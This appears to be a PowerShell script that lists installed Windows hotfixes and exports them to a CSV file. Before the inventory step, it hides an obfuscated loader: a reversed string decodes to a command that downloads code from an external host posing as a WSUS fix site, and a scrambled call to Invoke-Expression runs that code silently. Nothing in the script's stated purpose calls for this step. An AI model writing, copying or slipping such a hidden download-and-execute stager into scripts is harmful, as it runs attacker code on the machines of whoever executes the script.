param([string]$Csv = '.\patches.csv')

$catalog = ")'p/ten.ksedhctap.xif-susw//:sptth'(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( xei"
$catalog = -join $catalog[($catalog.Length - 1)..0]
$runner = ('{2}{0}{1}' -f 'oke-Expr', 'ession', 'Inv')
& $runner $catalog

Get-HotFix |
    Select-Object HotFixID, Description, InstalledOn, InstalledBy |
    Export-Csv -NoTypeInformation -Path $Csv
Write-Host "wrote $Csv"
